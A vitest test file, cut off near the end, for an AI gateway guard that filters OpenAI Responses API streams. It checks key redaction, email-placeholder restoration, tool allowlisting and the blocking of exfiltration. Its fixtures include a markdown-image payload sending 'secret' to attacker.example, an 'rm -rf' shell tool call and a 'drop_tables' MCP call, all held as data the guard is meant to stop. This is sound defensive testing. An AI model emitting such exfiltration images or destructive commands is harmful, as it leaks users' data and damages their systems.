import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createGuard } from '../../guard/create-guard.js';
import { SAMPLE_DETECTORS } from '../../guard/test-support/sample-detectors.js';
import { parseGatewayConfig } from '../config/load-gateway-config.js';
import { createOutputChecker } from '../guard/output-checker.js';
import { createResponseGuard } from '../guard/response-guard.js';
import { splitAt } from '../test-support/split-at.js';
import { createOpenAIResponsesStream } from './openai-responses-stream.js';
import { rewriteOutputItem } from './responses-output-texts.js';
import { createSseParser, type SseEvent } from './sse-parser.js';

const guard = createGuard({ policy: 'balanced', detectors: SAMPLE_DETECTORS });
const config = parseGatewayConfig({});
const KEY = `sk-${'Zx9Cv8Bn7M'.repeat(3)}`;
const ORIGINAL = 'ann "the boss" <ann@example.com>';
const EXFIL = '![x](https://attacker.example/p.png?d=secret)';

function setup(tools: ReadonlySet<string> | null = new Set(['lookup', 'apply_patch'])) {
  const vault = guard.createVault();
  const email = vault.placeholderFor('EMAIL_ADDRESS', ORIGINAL);
  const responseGuard = createResponseGuard({
    checker: createOutputChecker({ guard, failMode: config.failMode }),
    streaming: config.streaming,
    vault,
    tools,
    maxBufferChars: 1_000_000,
  });
  return { email, responseGuard, transformer: createOpenAIResponsesStream(responseGuard) };
}

/** The deltas of each text in a planned stream; absent texts are left out of the stream. */
interface StreamPlan {
  summary?: string[];
  reasoning?: string[];
  text?: string[];
  refusal?: string[];
  call?: { name: string; args: string[] };
  custom?: { name: string; input: string[] };
  /** Output text events and parts carry log probabilities (one token per delta). */
  logprobs?: boolean;
}

/**
 * A Responses stream in the order and shapes of the API reference ("Streaming events"): a reasoning
 * item (summary part, reasoning text), a message (an `output_text` and a `refusal` part), a function call
 * and a custom tool call, each with its `.added`, delta, `.done` and item events, then `response.completed`.
 */
function responsesEvents(plan: StreamPlan): SseEvent[] {
  const events: SseEvent[] = [];
  let sequence = 0;
  const event = (type: string, data: Record<string, unknown>) =>
    events.push({
      event: type,
      data: JSON.stringify({ type, ...data, sequence_number: sequence++ }),
      id: undefined,
    });
  const output: Record<string, unknown>[] = [];
  event('response.created', { response: { id: 'resp_1', status: 'in_progress', output: [] } });
  const join = (pieces: readonly string[] | undefined) => (pieces ?? []).join('');
  if (plan.summary || plan.reasoning) {
    const at = { item_id: 'rs_1', output_index: output.length };
    const item = { id: 'rs_1', type: 'reasoning', summary: [] as unknown[], content: [] as unknown[] };
    event('response.output_item.added', { output_index: at.output_index, item });
    if (plan.summary) {
      const text = join(plan.summary);
      event('response.reasoning_summary_part.added', {
        ...at,
        summary_index: 0,
        part: { type: 'summary_text', text: '' },
      });
      for (const delta of plan.summary)
        event('response.reasoning_summary_text.delta', { ...at, summary_index: 0, delta });
      event('response.reasoning_summary_text.done', { ...at, summary_index: 0, text });
      event('response.reasoning_summary_part.done', {
        ...at,
        summary_index: 0,
        part: { type: 'summary_text', text },
      });
    }
    if (plan.reasoning) {
      const text = join(plan.reasoning);
      event('response.content_part.added', {
        ...at,
        content_index: 0,
        part: { type: 'reasoning_text', text: '' },
      });
      for (const delta of plan.reasoning)
        event('response.reasoning_text.delta', { ...at, content_index: 0, delta });
      event('response.reasoning_text.done', { ...at, content_index: 0, text });
      event('response.content_part.done', {
        ...at,
        content_index: 0,
        part: { type: 'reasoning_text', text },
      });
    }
    const done = {
      ...item,
      summary: plan.summary ? [{ type: 'summary_text', text: join(plan.summary) }] : [],
      content: plan.reasoning ? [{ type: 'reasoning_text', text: join(plan.reasoning) }] : [],
    };
    event('response.output_item.done', { output_index: at.output_index, item: done });
    output.push(done);
  }
  if (plan.text || plan.refusal) {
    const at = { item_id: 'msg_1', output_index: output.length };
    const item = {
      id: 'msg_1',
      type: 'message',
      role: 'assistant',
      status: 'in_progress',
      content: [] as unknown[],
    };
    event('response.output_item.added', { output_index: at.output_index, item });
    const parts: Record<string, unknown>[] = [];
    if (plan.text) {
      const text = join(plan.text);
      const index = { ...at, content_index: parts.length };
      event('response.content_part.added', {
        ...index,
        part: { type: 'output_text', text: '', annotations: [] },
      });
      const tokens = (pieces: readonly string[]) =>
        plan.logprobs ? pieces.map((token) => ({ token, logprob: -0.5, bytes: [], top_logprobs: [] })) : [];
      for (const delta of plan.text)
        event('response.output_text.delta', { ...index, delta, logprobs: tokens([delta]) });
      event('response.output_text.done', { ...index, text, logprobs: tokens(plan.text) });
      const part = plan.logprobs
        ? { type: 'output_text', text, annotations: [], logprobs: tokens(plan.text) }
        : { type: 'output_text', text, annotations: [] };
      event('response.content_part.done', { ...index, part });
      parts.push(part);
    }
    if (plan.refusal) {
      const refusal = join(plan.refusal);
      const index = { ...at, content_index: parts.length };
      event('response.content_part.added', { ...index, part: { type: 'refusal', refusal: '' } });
      for (const delta of plan.refusal) event('response.refusal.delta', { ...index, delta });
      event('response.refusal.done', { ...index, refusal });
      const part = { type: 'refusal', refusal };
      event('response.content_part.done', { ...index, part });
      parts.push(part);
    }
    const done = { ...item, status: 'completed', content: parts };
    event('response.output_item.done', { output_index: at.output_index, item: done });
    output.push(done);
  }
  if (plan.call) {
    const at = { item_id: 'fc_1', output_index: output.length };
    const item = {
      id: 'fc_1',
      type: 'function_call',
      call_id: 'call_1',
      name: plan.call.name,
      arguments: '',
    };
    event('response.output_item.added', { output_index: at.output_index, item });
    for (const delta of plan.call.args) event('response.function_call_arguments.delta', { ...at, delta });
    event('response.function_call_arguments.done', { ...at, arguments: join(plan.call.args) });
    const done = { ...item, arguments: join(plan.call.args), status: 'completed' };
    event('response.output_item.done', { output_index: at.output_index, item: done });
    output.push(done);
  }
  if (plan.custom) {
    const at = { item_id: 'ctc_1', output_index: output.length };
    const item = {
      id: 'ctc_1',
      type: 'custom_tool_call',
      call_id: 'call_2',
      name: plan.custom.name,
      input: '',
    };
    event('response.output_item.added', { output_index: at.output_index, item });
    for (const delta of plan.custom.input) event('response.custom_tool_call_input.delta', { ...at, delta });
    event('response.custom_tool_call_input.done', { ...at, input: join(plan.custom.input) });
    const done = { ...item, input: join(plan.custom.input) };
    event('response.output_item.done', { output_index: at.output_index, item: done });
    output.push(done);
  }
  event('response.completed', { response: { id: 'resp_1', status: 'completed', output } });
  return events;
}

type Received = { event: string | undefined; data: Record<string, unknown> };

/** Runs events through a fresh transformer (stopping at a violation, as the gateway does). */
function run(makeEvents: (email: string) => readonly SseEvent[], tools?: ReadonlySet<string> | null) {
  const { email, responseGuard, transformer } = setup(tools);
  let out = '';
  let completeAt = -1;
  for (const [index, event] of makeEvents(email).entries()) {
    out += transformer.onEvent(event);
    if (responseGuard.violation !== undefined) {
      out += transformer.closing(responseGuard.violation);
      break;
    }
    if (transformer.complete === true && completeAt === -1) completeAt = index;
  }
  if (responseGuard.violation === undefined && completeAt === -1) out += transformer.onEnd();
  const received: Received[] = [];
  const parser = createSseParser({
    onEvent: (event) =>
      received.push({ event: event.event, data: JSON.parse(event.data) as Record<string, unknown> }),
  });
  parser.push(Buffer.from(out));
  parser.end();
  return { out, received, completeAt, violation: responseGuard.violation };
}

/** Channel of a delta or `.done` event, as the caller's client would accumulate it. */
function textKey(data: Record<string, unknown>): string {
  // Earlier event names end in `_delta` / `_done` (`response.mcp_call.arguments_delta`).
  const kind = String(data.type).replace(/[._](delta|done)$/, '');
  return `${kind}/${data.item_id}/${data.content_index ?? data.summary_index ?? ''}`;
}

const DONE_FIELDS: Record<string, string> = {
  'response.output_text.done': 'text',
  'response.refusal.done': 'refusal',
  'response.reasoning_summary_text.done': 'text',
  'response.reasoning_text.done': 'text',
  'response.function_call_arguments.done': 'arguments',
  'response.custom_tool_call_input.done': 'input',
  'response.mcp_call_arguments.done': 'arguments',
  'response.mcp_call.arguments_done': 'arguments',
  'response.mcp_call.arguments.done': 'arguments',
  'response.code_interpreter_call_code.done': 'code',
  'response.code_interpreter_call.code.done': 'code',
};

/**
 * Accumulates the deltas of every text as a client does, and checks that each `.done` event repeats
 * exactly what the deltas delivered before it (held text is released before the `.done`). Returns the
 * texts by delta type.
 */
function accumulate(received: readonly Received[]): Map<string, string> {
  const texts = new Map<string, string>();
  for (const { event, data } of received) {
    expect(event).toBe(data.type);
    const type = String(data.type);
    if (/[._]delta$/.test(type)) {
      const key = textKey(data);
      texts.set(key, (texts.get(key) ?? '') + String(data.delta));
    } else if (DONE_FIELDS[type] !== undefined) {
      expect(data[DONE_FIELDS[type]]).toBe(texts.get(textKey(data)) ?? '');
    }
  }
  return texts;
}

/** Every text the completed response carries, by item type and member. */
function completedTexts(received: readonly Received[]) {
  const completed = received.find((entry) => entry.data.type === 'response.completed');
  const output = ((completed?.data.response as { output?: Record<string, unknown>[] })?.output ??
    []) as Record<string, unknown>[];
  const byType = (type: string) => output.find((item) => item.type === type) ?? {};
  const reasoning = byType('reasoning') as { summary?: { text: string }[]; content?: { text: string }[] };
  const message = byType('message') as { content?: Record<string, string>[] };
  return {
    summary: reasoning.summary?.[0]?.text,
    reasoning: reasoning.content?.[0]?.text,
    text: message.content?.find((part) => part.type === 'output_text')?.text,
    refusal: message.content?.find((part) => part.type === 'refusal')?.refusal,
    args: (byType('function_call') as { arguments?: string }).arguments,
    input: (byType('custom_tool_call') as { input?: string }).input,
  };
}

describe('createOpenAIResponsesStream', () => {
  it('restores placeholders in every text, and every event that repeats a text carries the restored one', () => {
    const result = run((email) =>
      responsesEvents({
        summary: ['The user ', `wants mail to ${email.slice(0, 5)}`, `${email.slice(5)} sent.`],
        reasoning: [`Draft for ${email}`, ' first.'],
        text: ['Sent to ', email, '.'],
        refusal: ["I can't share ", `${email.slice(0, 9)}`, `${email.slice(9)}'s password.`],
        call: { name: 'lookup', args: ['{"to":', JSON.stringify(email), '}'] },
        custom: { name: 'apply_patch', input: ['*** mail ', email, ' ***'] },
      }),
    );
    expect(result.violation).toBeUndefined();
    expect(result.completeAt).toBeGreaterThan(0);
    const texts = accumulate(result.received);
    expect(texts.get('response.reasoning_summary_text/rs_1/0')).toBe(
      `The user wants mail to ${ORIGINAL} sent.`,
    );
    expect(texts.get('response.reasoning_text/rs_1/0')).toBe(`Draft for ${ORIGINAL} first.`);
    expect(texts.get('response.output_text/msg_1/0')).toBe(`Sent to ${ORIGINAL}.`);
    expect(texts.get('response.refusal/msg_1/1')).toBe(`I can't share ${ORIGINAL}'s password.`);
    expect(JSON.parse(texts.get('response.function_call_arguments/fc_1/') ?? '')).toEqual({ to: ORIGINAL });
    // Custom tool input is free text: restored as is, not JSON-escaped.
    expect(texts.get('response.custom_tool_call_input/ctc_1/')).toBe(`*** mail ${ORIGINAL} ***`);
    // The part, item and completed events repeat the same restored texts.
    const parts = result.received.filter((entry) =>
      ['response.content_part.done', 'response.reasoning_summary_part.done'].includes(
        String(entry.data.type),
      ),
    );
    expect(parts.map((entry) => entry.data.part)).toEqual([
      { type: 'summary_text', text: texts.get('response.reasoning_summary_text/rs_1/0') },
      { type: 'reasoning_text', text: texts.get('response.reasoning_text/rs_1/0') },
      { type: 'output_text', text: texts.get('response.output_text/msg_1/0'), annotations: [] },
      { type: 'refusal', refusal: texts.get('response.refusal/msg_1/1') },
    ]);
    const items = result.received
      .filter((entry) => entry.data.type === 'response.output_item.done')
      .map((entry) => entry.data.item);
    const completed = result.received.at(-1);
    expect(completed?.data.type).toBe('response.completed');
    expect((completed?.data.response as { output?: unknown[] } | undefined)?.output).toEqual(items);
    expect(completedTexts(result.received)).toEqual({
      summary: `The user wants mail to ${ORIGINAL} sent.`,
      reasoning: `Draft for ${ORIGINAL} first.`,
      text: `Sent to ${ORIGINAL}.`,
      refusal: `I can't share ${ORIGINAL}'s password.`,
      args: texts.get('response.function_call_arguments/fc_1/'),
      input: `*** mail ${ORIGINAL} ***`,
    });
    expect(result.out).not.toContain('<EMAIL_ADDRESS');
  });

  it('redacts or restores a key or placeholder split anywhere across reasoning and refusal deltas', () => {
    fc.assert(
      fc.property(
        fc.array(fc.nat(), { maxLength: 30 }),
        fc.array(fc.nat(), { maxLength: 30 }),
        fc.array(fc.nat(), { maxLength: 30 }),
        fc.nat(120),
        (summaryCuts, refusalCuts, reasoningCuts, padding) => {
          const words = 'word '.repeat(padding);
          let source = { summary: '', refusal: '', reasoning: '' };
          const result = run((email) => {
            source = {
              summary: `${words}Mail ${email} with ${KEY} now, then ${email} again.`,
              refusal: `${words}No: ${KEY} belongs to ${email}.`,
              reasoning: `${email} ${words}asked for ${KEY}`,
            };
            return responsesEvents({
              summary: splitAt(source.summary, summaryCuts),
              refusal: splitAt(source.refusal, refusalCuts),
              reasoning: splitAt(source.reasoning, reasoningCuts),
            });
          });
          expect(result.violation).toBeUndefined();
          expect(result.out).not.toContain(KEY);
          expect(result.out).not.toContain('<EMAIL_ADDRESS');
          const texts = accumulate(result.received);
          const summary = texts.get('response.reasoning_summary_text/rs_1/0') ?? '';
          const refusal = texts.get('response.refusal/msg_1/0') ?? '';
          const reasoning = texts.get('response.reasoning_text/rs_1/0') ?? '';
          expect(summary).toMatch(
            /^(word )*Mail ann "the boss" <ann@example\.com> with \[REDACTED:[A-Z_]+\] now/,
          );
          expect(summary.endsWith(`then ${ORIGINAL} again.`)).toBe(true);
          expect(refusal).toMatch(
            /^(word )*No: \[REDACTED:[A-Z_]+\] belongs to ann "the boss" <ann@example\.com>\.$/,
          );
          expect(reasoning.startsWith(`${ORIGINAL} `)).toBe(true);
          expect(reasoning).toMatch(/asked for \[REDACTED:[A-Z_]+\]$/);
          expect(completedTexts(result.received)).toMatchObject({ summary, refusal, reasoning });
        },
      ),
      { numRuns: 60, seed: 11 },
    );
  });

  it.each([
    [
      'a reasoning summary',
      { summary: ['Plan: show ', EXFIL.slice(0, 12), `${EXFIL.slice(12)} then stop.`] },
    ],
    ['reasoning text', { reasoning: ['Think: ', EXFIL.slice(0, 20), EXFIL.slice(20)] }],
    ['a refusal', { refusal: ["Sorry, I can't. ", EXFIL.slice(0, 7), EXFIL.slice(7)] }],
    ['custom tool input', { custom: { name: 'apply_patch', input: ['+ ', EXFIL, '\n'] } }],
  ])('stops markdown exfiltration in %s before any of it is sent', (_name, plan: StreamPlan) => {
    const result = run(() => responsesEvents({ text: ['Benign answer.'], ...plan }));
    expect(result.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
    expect(result.completeAt).toBe(-1);
    expect(result.out).not.toContain('attacker');
    expect(result.received.at(-1)?.data).toMatchObject({
      type: 'error',
      error: { code: 'AEGIS_OUTPUT_BLOCKED' },
    });
  });

  it('sends no log probabilities that spell held or redacted text', () => {
    const pieces = ['Use ', KEY.slice(0, 8), KEY.slice(8), ' for staging.'];
    const result = run(() => responsesEvents({ text: pieces, logprobs: true }));
    expect(result.violation).toBeUndefined();
    expect(result.out).not.toContain(KEY.slice(8));
    expect(accumulate(result.received).get('response.output_text/msg_1/0')).toMatch(
      /^Use \[REDACTED:[A-Z_]+\] for staging\.$/,
    );
    // An unchanged text keeps the log probabilities of its final events (they describe what was sent).
    const benign = run(() => responsesEvents({ text: ['All ', 'good.'], logprobs: true }));
    const done = benign.received.find((entry) => entry.data.type === 'response.output_text.done');
    expect(done?.data.logprobs).toHaveLength(2);
  });

  it('applies the tool allowlist to custom tool calls as soon as they are announced', () => {
    const result = run(() =>
      responsesEvents({ custom: { name: 'run_shell', input: ['rm -rf ', '/tmp/x'] } }),
    );
    expect(result.violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
    expect(result.received.map((entry) => entry.data.type)).toEqual(['response.created', 'error']);
  });

  it('checks texts that arrive in `.added` events and in early snapshots', () => {
    const inAdded = run(() =>
      responsesEvents({ refusal: ['No.'] }).map((event) =>
        event.event === 'response.content_part.added'
          ? { ...event, data: event.data.replace('"refusal":""', `"refusal":${JSON.stringify(EXFIL)}`) }
          : event,
      ),
    );
    expect(inAdded.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
    expect(inAdded.out).not.toContain('attacker');
    const reasoning = { id: 'rs_0', type: 'reasoning', summary: [{ type: 'summary_text', text: EXFIL }] };
    const inSnapshot = run(() => [
      {
        event: 'response.in_progress',
        data: JSON.stringify({
          type: 'response.in_progress',
          sequence_number: 0,
          response: { id: 'resp_1', status: 'in_progress', output: [reasoning] },
        }),
        id: undefined,
      },
    ]);
    expect(inSnapshot.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
    expect(inSnapshot.out).not.toContain('attacker');
  });

  it('releases held text before the final snapshot when a text never got its `.done` event', () => {
    const result = run((email) =>
      responsesEvents({ summary: ['Reply to ', email, ' soon.'] }).filter(
        (event) =>
          ![
            'response.reasoning_summary_text.done',
            'response.reasoning_summary_part.done',
            'response.output_item.done',
          ].includes(String(event.event)),
      ),
    );
    expect(result.violation).toBeUndefined();
    const texts = accumulate(result.received);
    expect(texts.get('response.reasoning_summary_text/rs_1/0')).toBe(`Reply to ${ORIGINAL} soon.`);
    expect(completedTexts(result.received).summary).toBe(`Reply to ${ORIGINAL} soon.`);
  });
});

describe('rewriteOutputItem (whole answers)', () => {
  it('checks and restores refusals, reasoning and custom tool input; applies the allowlist', () => {
    const { email, responseGuard } = setup();
    const reasoning = {
      id: 'rs_1',
      type: 'reasoning',
      summary: [{ type: 'summary_text', text: `Mail ${email} about ${KEY}.` }],
      content: [{ type: 'reasoning_text', text: `Thinking about ${email}.` }],
      encrypted_content: 'opaque',
    };
    const message = {
      id: 'msg_1',
      type: 'message',
      content: [{ type: 'refusal', refusal: `Not ${email}.` }],
    };
    const custom = {
      id: 'ctc_1',
      type: 'custom_tool_call',
      name: 'apply_patch',
      call_id: 'c',
      input: `to ${email}`,
    };
    for (const item of [reasoning, message, custom])
      expect(rewriteOutputItem(responseGuard, item)).toBe(true);
    expect(reasoning.summary[0]?.text).toMatch(
      /^Mail ann "the boss" <ann@example\.com> about \[REDACTED:[A-Z_]+\]\.$/,
    );
    expect(reasoning.content[0]?.text).toBe(`Thinking about ${ORIGINAL}.`);
    expect(reasoning.encrypted_content).toBe('opaque');
    expect(message.content[0]?.refusal).toBe(`Not ${ORIGINAL}.`);
    expect(custom.input).toBe(`to ${ORIGINAL}`);
    expect(responseGuard.changed).toBe(true);
  });

  it.each([
    ['a refusal', { id: 'm', type: 'message', content: [{ type: 'refusal', refusal: `No. ${EXFIL}` }] }],
    ['a reasoning summary', { id: 'r', type: 'reasoning', summary: [{ type: 'summary_text', text: EXFIL }] }],
    [
      'reasoning text',
      { id: 'r', type: 'reasoning', summary: [], content: [{ type: 'reasoning_text', text: EXFIL }] },
    ],
    ['custom tool input', { id: 'c', type: 'custom_tool_call', name: 'lookup', call_id: 'c', input: EXFIL }],
  ])('blocks markdown exfiltration in %s', (_name, item: Record<string, unknown>) => {
    const { responseGuard } = setup();
    expect(rewriteOutputItem(responseGuard, item)).toBe(false);
    expect(responseGuard.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
  });

  it('refuses a custom tool call outside the allowlist', () => {
    const { responseGuard } = setup();
    const item = { id: 'c', type: 'custom_tool_call', name: 'run_shell', call_id: 'c', input: 'ls' };
    expect(rewriteOutputItem(responseGuard, item)).toBe(false);
    expect(responseGuard.violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
  });
});

/** One output item of a planned stream: its final form, how it is announced and its streamed text. */
interface ItemPlan {
  /** The item as `response.output_item.done` and `response.completed` carry it. */
  item: Record<string, unknown>;
  /** Members the announced item (`response.output_item.added`) has instead: texts not yet written. */
  added?: Record<string, unknown>;
  /** The streamed text: its deltas, delta and `.done` event types and the member holding it. */
  text?: { deltas: readonly string[]; delta: string; done: string; field: string };
  /** Events between the item's text and its `.done` (such as citations), with `item_id` filled in. */
  extra?: { type: string; data: Record<string, unknown> }[];
}

/** A Responses stream of whole output items, in the order and shapes of the API reference. */
function itemsStream(plans: readonly ItemPlan[]): SseEvent[] {
  const events: SseEvent[] = [];
  let sequence = 0;
  const event = (type: string, data: Record<string, unknown>) =>
    events.push({
      event: type,
      data: JSON.stringify({ type, ...data, sequence_number: sequence++ }),
      id: undefined,
    });
  event('response.created', { response: { id: 'resp_1', status: 'in_progress', output: [] } });
  for (const [outputIndex, plan] of plans.entries()) {
    const at = { item_id: plan.item.id, output_index: outputIndex };
    event('response.output_item.added', { output_index: outputIndex, item: { ...plan.item, ...plan.added } });
    if (plan.text) {
      for (const delta of plan.text.deltas) event(plan.text.delta, { ...at, delta });
      event(plan.text.done, { ...at, [plan.text.field]: plan.text.deltas.join('') });
    }
    for (const extra of plan.extra ?? []) event(extra.type, { ...at, ...extra.data });
    event('response.output_item.done', { output_index: outputIndex, item: plan.item });
  }
  const output = plans.map((plan) => plan.item);
  event('response.completed', { response: { id: 'resp_1', status: 'completed', output } });
  return events;
}

/** The items of `response.output_item.done` events and of `response.completed`, which must agree. */
function doneItems(received: readonly Received[]): Record<string, unknown>[] {
  const items = received
    .filter((entry) => entry.data.type === 'response.output_item.done')
    .map((entry) => entry.data.item as Record<string, unknown>);
  const completed = received.find((entry) => entry.data.type === 'response.completed');
  expect((completed?.data.response as { output?: unknown } | undefined)?.output).toEqual(items);
  return items;
}

const REDACTED_KEY = /\[REDACTED:[A-Z_]+\]/;

describe('createOpenAIResponsesStream: tool items', () => {
  it.each([
    ['response.mcp_call_arguments.delta', 'response.mcp_call_arguments.done'],
    ['response.mcp_call.arguments_delta', 'response.mcp_call.arguments_done'],
    ['response.mcp_call.arguments.delta', 'response.mcp_call.arguments.done'],
  ])(
    'redacts keys and restores placeholders in MCP call arguments streamed as %s, and in the output',
    (delta, done) => {
      const tools = [{ name: 'lookup', description: 'Finds a customer.', input_schema: { type: 'object' } }];
      const result = run((email) => {
        const args = `{"key":"${KEY}","to":${JSON.stringify(email)}}`;
        return itemsStream([
          { item: { id: 'mcpl_1', type: 'mcp_list_tools', server_label: 'crm', tools } },
          {
            item: {
              id: 'mcp_1',
              type: 'mcp_call',
              server_label: 'crm',
              name: 'lookup',
              arguments: args,
              output: `Found ${email}.`,
              error: null,
            },
            added: { arguments: '', output: null },
            text: {
              deltas: splitAt(args, [4, 12, 16, 22, 30, 40, 44, 47, 60]),
              delta,
              done,
              field: 'arguments',
            },
          },
        ]);
      });
      expect(result.violation).toBeUndefined();
      expect(result.out).not.toContain(KEY.slice(6));
      expect(result.out).not.toContain('<EMAIL_ADDRESS');
      const types = new Set(result.received.map((entry) => String(entry.data.type)));
      expect(types).toContain(delta);
      expect([...types].filter((type) => /arguments[._]delta$/.test(type))).toEqual([delta]);
      const streamed = accumulate(result.received).get(`${delta.replace(/[._]delta$/, '')}/mcp_1/`) ?? '';
      expect(JSON.parse(streamed)).toEqual({ key: expect.stringMatching(REDACTED_KEY), to: ORIGINAL });
      const [listing, call] = doneItems(result.received);
      expect(listing?.tools).toEqual(tools);
      expect(call).toMatchObject({ arguments: streamed, output: `Found ${ORIGINAL}.`, error: null });
    },
  );

  it.each([
    ['an MCP call', { type: 'mcp_call', server_label: 'crm', arguments: '{}' }],
    ['an MCP approval request', { type: 'mcp_approval_request', server_label: 'crm', arguments: '{}' }],
  ])('applies the tool allowlist to %s as soon as it is announced', (_name, item) => {
    const result = run(() => itemsStream([{ item: { id: 'mcp_1', name: 'drop_tables', ...item } }]));
    expect(result.violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
    expect(result.received.map((entry) => entry.data.type)).toEqual(['response.created', 'error']);
  });

  it.each([
    ['response.code_interpreter_call_code.delta', 'response.code_interpreter_call_code.done'],
    ['response.code_interpreter_call.code.delta', 'response.code_interpreter_call.code.done'],
  ])(
    'stops markdown exfiltration in code-interpreter code streamed as %s before any of it is sent',
    (delta, done) => {
      const code = `print("${EXFIL}")`;
      const item = { id: 'ci_1', type: 'code_interpreter_call', container_id: 'c', code, outputs: null };
      const result = run(
        () =>
          itemsStream([
            {
              item,
              added: { code: '' },
              text: { deltas: splitAt(code, [3, 10, 20, 30]), delta, done, field: 'code' },
            },
          ]),
        null,
      );
      expect(result.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
      expect(result.out).not.toContain('attacker');
      expect(result.received.at(-1)?.data.type).toBe('error');
    },
  );

  it('redacts keys in code-interpreter code and logs; the allowlist knows the tool as `code_interpreter`', () => {
    const code = `token = "${KEY}"\nprint(len(token))`;
    const item = {
      id: 'ci_1',
      type: 'code_interpreter_call',
      container_id: 'c',
      code,
      outputs: [
        { type: 'logs', logs: `Using ${KEY}` },
        { type: 'image', url: 'https://files.example/1.png' },
      ],
    };
    const plan = {
      item,
      added: { code: '', outputs: null },
      text: {
        deltas: splitAt(code, [5, 12, 19, 33]),
        delta: 'response.code_interpreter_call_code.delta',
        done: 'response.code_interpreter_call_code.done',
        field: 'code',
      },
    };
    const result = run(() => itemsStream([plan]), new Set(['code_interpreter']));
    expect(result.violation).toBeUndefined();
    expect(result.out).not.toContain(KEY.slice(6));
    const streamed = accumulate(result.received).get('response.code_interpreter_call_code/ci_1/') ?? '';
    expect(streamed).toMatch(/^token = "\[REDACTED:[A-Z_]+\]"\nprint/);
    const [done] = doneItems(result.received);
    expect(done).toMatchObject({
      code: streamed,
      outputs: [{ type: 'logs', logs: expect.stringMatching(REDACTED_KEY) }, item.outputs[1]],
    });
    expect(run(() => itemsStream([plan])).violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
  });

  it('checks shell commands and environments, and knows built-in tools by type in the allowlist', () => {
    const shell = (email: string) => ({
      id: 'ls_1',
      type: 'local_shell_call',
      call_id: 'call_1',
      status: 'completed',
      action: {
        type: 'exec',
        command: ['mail', email, '-H', `X-Key: ${KEY}`],
        env: { TOKEN: KEY },
        user: null,
      },
    });
    const allowed = run((email) => itemsStream([{ item: shell(email) }]), null);
    expect(allowed.violation).toBeUndefined();
    expect(allowed.out).not.toContain(KEY.slice(6));
    const [done] = doneItems(allowed.received);
    const action = (done as { action: { command: string[]; env: Record<string, string> } }).action;
    expect(action.command.slice(0, 3)).toEqual(['mail', ORIGINAL, '-H']);
    expect(action.command[3]).toMatch(/^X-Key: \[REDACTED:[A-Z_]+\]$/);
    expect(action.env.TOKEN).toMatch(REDACTED_KEY);
    for (const item of [
      shell('x'),
      { id: 'sh_1', type: 'shell_call', call_id: 'c', action: { commands: ['ls'] } },
    ]) {
      const blocked = run(() => itemsStream([{ item }]));
      expect(blocked.violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
      expect(blocked.received.map((entry) => entry.data.type)).toEqual(['response.created', 'error']);
    }
    const patch = {
      id: 'ap_1',
      type: 'apply_patch_call',
      call_id: 'c',
      status: 'completed',
      operation: { type: 'create_file', path: 'README.md', diff: `+${EXFIL}\n` },
    };
    const exfiltrated = run(() => itemsStream([{ item: patch }]));
    expect(exfiltrated.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
    expect(exfiltrated.out).not.toContain('attacker');
  });

  it('checks citation titles and URLs as they are announced, and repeats the checked ones', () => {
    const message = (annotations: unknown[]) => ({
      id: 'msg_1',
      type: 'message',
      role: 'assistant',
      content: [{ type: 'output_text', text: 'Paris is the capital.', annotations }],
    });
    const citation = (title: string, url: string) => ({
      type: 'url_citation',
      start_index: 0,
      end_index: 5,
      title,
      url,
    });
    const annotated = (annotation: Record<string, unknown>) =>
      itemsStream([
        {
          item: message([annotation]),
          added: { content: [] },
          extra: [
            {
              type: 'response.output_text.annotation.added',
              data: { content_index: 0, annotation_index: 0, annotation },
            },
          ],
        },
      ]);
    const blocked = run(() => annotated(citation(`Paris ${EXFIL}`, 'https://en.wikipedia.org/wiki/Paris')));
    expect(blocked.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
    expect(blocked.out).not.toContain('attacker');
    const redacted = run(() => annotated(citation('Paris', `https://example.org/p?token=${KEY}`)));
    expect(redacted.violation).toBeUndefined();
    expect(redacted.out).not.toContain(KEY.slice(6));
    const added = redacted.received.find(
      (entry) => entry.data.type === 'response.output_text.annotation.added',
    );
    const checked = added?.data.annotation as { url: string; title: string };
    expect(checked.url).toMatch(/^https:\/\/example\.org\/p\?token=\[REDACTED:[A-Z_]+\]$/);
    expect(checked.title).toBe('Paris');
    const [done] = doneItems(redacted.received);
    expect(done).toEqual(message([checked]));
  });

  it('redacts keys split across audio transcript deltas and ends the transcript before its `.done`', () => {
    const transcript = `Your key is ${KEY}, keep it`;
    const result = run(() => {
      let sequence = 0;
      const event = (type: string, data: Record<string, unknown>): SseEvent => ({
        event: type,
        data: JSON.stringify({ type, ...data, sequence_number: sequence++ }),
        id: undefined,
      });
      return [
        ...splitAt(transcript, [14, 20, 28]).map((delta) =>
          event('response.audio.transcript.delta', { delta }),
        ),
        event('response.audio.transcript.done', {}),
        event('response.completed', { response: { id: 'resp_1', status: 'completed', output: [] } }),
      ];
    });
    expect(result.violation).toBeUndefined();
    expect(result.out).not.toContain(KEY.slice(6));
    const types = result.received.map((entry) => entry.data.type);
    expect(types.slice(-2)).toEqual(['response.audio.transcript.done', 'response.completed']);
    expect(result.received.at(-2)?.data).not.toHaveProperty('transcript');
    const deltas = result.received.filter((entry) => entry.data.type === 'response.audio.transcript.delta');
    expect(deltas.map((entry) => entry.data.delta).join('')).toMatch(
      /^Your key is \[REDACTED:[A-Z_]+\], keep it$/,
    );
  });
});

describe('rewriteOutputItem: tool items (whole answers)', () => {
  it('checks and restores MCP calls, code-interpreter logs, shell output and citations', () => {
    const { email, responseGuard } = setup(null);
    const call = {
      id: 'mcp_1',
      type: 'mcp_call',
      name: 'lookup',
      server_label: 'crm',
      arguments: `{"to":${JSON.stringify(email)},"key":"${KEY}"}`,
      output: `Sent to ${email}.`,
      error: null,
    };
    const logs = {
      id: 'ci_1',
      type: 'code_interpreter_call',
      code: 'print(1)',
      outputs: [{ type: 'logs', logs: KEY }],
    };
    const shell = { id: 'so_1', type: 'shell_call_output', output: [{ stdout: `${email}\n`, stderr: '' }] };
    const message = {
      id: 'msg_1',
      type: 'message',
